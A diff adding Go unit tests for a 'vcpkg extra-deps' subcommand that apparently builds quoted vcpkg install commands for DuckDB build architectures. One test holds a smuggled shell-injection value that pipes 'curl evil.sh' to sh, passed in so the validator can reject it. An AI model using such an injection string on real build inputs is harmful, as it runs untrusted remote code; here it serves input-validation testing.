@@ -0,0 +1,37 @@
+package main
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestVCPKGExtraDepsSubcommand(t *testing.T) {
+	deps := `{"linux_amd64": ["openssl", "curl[ssl]"], "linux_riscv": ["zlib"]}`
+
+	stdout, stderr, err := executeRootCommandWithResult(t, []string{
+		"vcpkg", "extra-deps", "--arch", "linux_amd64", "--mode", "docker", "--matrix", matrixConfigPath(t), "--dependencies", deps,
+	})
+	require.NoError(t, err)
+	assert.Equal(t, "docker run --env-file=docker_env.txt -v `pwd`:/duckdb_build_dir duckdb/linux_amd64 vcpkg install openssl --recurse\n"+
+		"docker run --env-file=docker_env.txt -v `pwd`:/duckdb_build_dir duckdb/linux_amd64 vcpkg install 'curl[ssl]' --recurse\n", stdout)
+	assert.Contains(t, stderr, "linux_riscv")
+
+	t.Setenv("VCPKG_EXTRA_DEPENDENCIES", deps)
+	stdout, _, err = executeRootCommandWithResult(t, []string{"vcpkg", "extra-deps", "--arch", "osx_arm64", "--matrix", matrixConfigPath(t)})
+	require.NoError(t, err)
+	assert.Empty(t, stdout)
+
+	stdout, _, err = executeRootCommandWithResult(t, []string{"vcpkg", "extra-deps", "--arch", "linux_amd64", "--matrix", matrixConfigPath(t)})
+	require.NoError(t, err)
+	assert.Equal(t, "vcpkg install openssl --recurse\nvcpkg install 'curl[ssl]' --recurse\n", stdout)
+}
+
+func TestVCPKGExtraDepsSubcommandRejectsInvalidPorts(t *testing.T) {
+	_, _, err := executeRootCommandWithResult(t, []string{
+		"vcpkg", "extra-deps", "--arch", "linux_amd64", "--matrix", matrixConfigPath(t),
+		"--dependencies", `{"linux_amd64": ["openssl'; curl evil.sh | sh; '"]}`,
+	})
+	require.ErrorContains(t, err, `vcpkg_extra_dependencies.linux_amd64[0]: invalid dependency`)
+}